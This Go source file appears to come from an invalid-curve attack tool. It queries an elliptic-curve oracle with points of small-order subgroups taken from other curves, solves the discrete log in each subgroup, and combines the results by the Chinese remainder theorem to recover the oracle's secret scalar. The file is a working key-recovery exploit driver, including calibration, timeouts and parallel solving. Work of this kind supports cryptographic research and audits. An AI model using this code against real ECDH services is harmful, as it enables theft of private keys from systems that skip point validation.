package invalidcurve

import (
	"context"
	"errors"
	"fmt"
	"math/big"
	"time"

	"github.com/google/uuid"
	"go.uber.org/multierr"
	"go.uber.org/zap"

	"github.com/mahdiidarabi/invalid-curve/internal/workpool"
	"github.com/mahdiidarabi/invalid-curve/pkg/weierstrass"
)

// Result is the outcome of an attack run. When the combined modulus
// reaches the secret bound, Secret holds the recovered scalar. Otherwise
// Secret is nil and Residues lists what is known.
type Result struct {
	RunID    string
	Secret   *big.Int
	Combined ResidueRecord
	Residues []ResidueRecord
	Bound    *big.Int

	// Calibrated is set when the oracle answered the calibration point
	// with a point on the expected curve
	Calibrated bool

	Queried int
	Solved  int
	// Unsolved collects one error per subgroup that gave no residue
	Unsolved error
	Duration time.Duration
}

// Full reports whether the secret was recovered completely.
func (r *Result) Full() bool {
	return r != nil && r.Secret != nil
}

// Attack queries an oracle with the points of a catalog and recovers its
// secret scalar.
type Attack struct {
	oracle Oracle
	config AttackConfig
	logger *zap.Logger
}

// NewAttack creates an attack against oracle with default settings.
func NewAttack(oracle Oracle) *Attack {
	return &Attack{
		oracle: oracle,
		config: DefaultAttackConfig(),
		logger: zap.NewNop(),
	}
}

// WithConfig sets the attack parameters.
func (a *Attack) WithConfig(config AttackConfig) *Attack {
	a.config = config
	return a
}

// WithLogger sets the logger used for progress lines.
func (a *Attack) WithLogger(logger *zap.Logger) *Attack {
	if logger != nil {
		a.logger = logger
	}
	return a
}

type answered struct {
	ref      PointRef
	response weierstrass.Point
}

type solved struct {
	record ResidueRecord
	err    error
}

// Run attacks the oracle with every subgroup point of cat.
//
// Args:
//   - ctx: Context for cancellation.
//   - cat: Catalog produced by a Generator.
//   - expectedB: Constant of the curve the oracle should use; only checked
//     against the catalog's calibration point. May be nil.
//
// Returns:
//   - Result, full or partial. Oracle failures and unsolved subgroups
//     never fail the run; inconsistent residues do (*InconsistentError).
func (a *Attack) Run(ctx context.Context, cat *Catalog, expectedB *big.Int) (*Result, error) {
	start := time.Now()
	if cat == nil {
		return nil, &ValidationError{Param: "catalog", Err: errors.New("missing")}
	}
	f := &cat.Field
	if err := cat.Validate(); err != nil {
		return nil, err
	}

	res := &Result{
		RunID:    uuid.NewString(),
		Residues: []ResidueRecord{},
		Bound:    boundOr(a.config.SecretBound, f),
	}
	if a.config.SecretBound == nil && cat.Bound != nil {
		res.Bound = new(big.Int).Set(cat.Bound)
	}
	log := a.logger.With(zap.String("run", res.RunID))

	maxBits := a.config.MaxLogBits
	if maxBits <= 0 {
		maxBits = DefaultAttackConfig().MaxLogBits
	}
	oracle := WithTimeout(a.oracle, a.config.QueryTimeout)

	if cat.G0 != nil {
		ok, err := a.calibrate(ctx, f, cat.G0, expectedB, oracle, log)
		if err != nil {
			return nil, err
		}
		res.Calibrated = ok
	}

	// Queries go out one at a time
	refs := cat.Points()
	log.Info("starting attack", zap.Int("subgroups", len(refs)), zap.String("bound", res.Bound.String()))
	var pending []answered
	for _, ref := range refs {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		if ref.Prime.BitLen() > maxBits {
			res.Unsolved = multierr.Append(res.Unsolved, fmt.Errorf("%w: prime %s exceeds %d bits", ErrUnsolved, ref.Prime, maxBits))
			continue
		}
		res.Queried++
		resp, err := oracle.Query(ctx, ref.Point)
		if err != nil {
			if ctx.Err() != nil {
				return nil, ctx.Err()
			}
			if !errors.Is(err, ErrOracle) {
				err = fmt.Errorf("%w: %w", ErrOracle, err)
			}
			res.Unsolved = multierr.Append(res.Unsolved, fmt.Errorf("q=%s: %w", ref.Order, err))
			log.Warn("oracle query failed", zap.String("b", ref.B.String()), zap.String("q", ref.Order.String()), zap.Error(err))
			continue
		}
		if !f.IsOnCurve(resp, ref.B) {
			err := fmt.Errorf("q=%s: %w: response %s is not on curve b=%s", ref.Order, ErrUnsolved, resp, ref.B)
			res.Unsolved = multierr.Append(res.Unsolved, err)
			log.Warn("response off curve", zap.String("b", ref.B.String()), zap.String("q", ref.Order.String()))
			continue
		}
		pending = append(pending, answered{ref: ref, response: resp})
	}

	// Discrete logs are independent
	results, _, err := workpool.Map(ctx, a.config.Workers, pending, func(ctx context.Context, item answered) solved {
		x, err := SubgroupLog(ctx, f, item.ref.Point, item.response, item.ref.Prime, item.ref.Exp)
		if err != nil {
			return solved{err: fmt.Errorf("q=%s: %w", item.ref.Order, err)}
		}
		return solved{record: ResidueRecord{Residue: x, Modulus: new(big.Int).Set(item.ref.Order)}}
	})
	if err != nil {
		return nil, err
	}
	for _, s := range results {
		if s.err != nil {
			res.Unsolved = multierr.Append(res.Unsolved, s.err)
			log.Warn("subgroup unsolved", zap.Error(s.err))
			continue
		}
		res.Residues = append(res.Residues, s.record)
		log.Debug("subgroup solved", zap.String("q", s.record.Modulus.String()), zap.String("residue", s.record.Residue.String()))
	}
	res.Solved = len(res.Residues)

	combined, err := CRT(res.Residues)
	if err != nil {
		log.Error("residues disagree", zap.Error(err))
		return nil, err
	}
	res.Combined = combined
	if combined.Modulus.Cmp(res.Bound) >= 0 {
		res.Secret = new(big.Int).Set(combined.Residue)
	}
	res.Duration = time.Since(start)

	log.Info("attack complete",
		zap.Bool("full", res.Full()),
		zap.Int("solved", res.Solved),
		zap.Int("unsolved", len(multierr.Errors(res.Unsolved))),
		zap.String("modulus", combined.Modulus.String()),
		zap.Duration("elapsed", res.Duration),
	)
	return res, nil
}

// calibrate checks g0 against expectedB and asks the oracle to multiply
// it. An answer off the expected curve is logged, not fatal.
func (a *Attack) calibrate(ctx context.Context, f *weierstrass.Field, g0 *Calibration, expectedB *big.Int, oracle Oracle, log *zap.Logger) (bool, error) {
	b := g0.B
	if expectedB != nil {
		if !f.IsOnCurve(g0.Point, expectedB) {
			return false, &ValidationError{Param: "expected_b", Value: expectedB, Err: ErrCalibration}
		}
		b = expectedB
	}
	resp, err := oracle.Query(ctx, g0.Point)
	if err != nil {
		if ctx.Err() != nil {
			return false, ctx.Err()
		}
		log.Warn("calibration query failed", zap.Error(err))
		return false, nil
	}
	if !f.IsOnCurve(resp, b) {
		log.Warn("calibration mismatch: oracle answer is not on the expected curve",
			zap.String("b", b.String()),
			zap.String("response", resp.String()),
		)
		return false, nil
	}
	log.Info("calibration ok", zap.String("b", b.String()))
	return true, nil
}

// RunAttack runs an attack with default settings.
func RunAttack(ctx context.Context, cat *Catalog, oracle Oracle, expectedB *big.Int) (*Result, error) {
	return NewAttack(oracle).Run(ctx, cat, expectedB)
}

// RunAttackFile loads a catalog written by Generate and attacks oracle
// with it.
func RunAttackFile(ctx context.Context, path string, oracle Oracle, expectedB *big.Int) (*Result, error) {
	cat, err := LoadCatalog(path)
	if err != nil {
		return nil, err
	}
	return RunAttack(ctx, cat, oracle, expectedB)
}
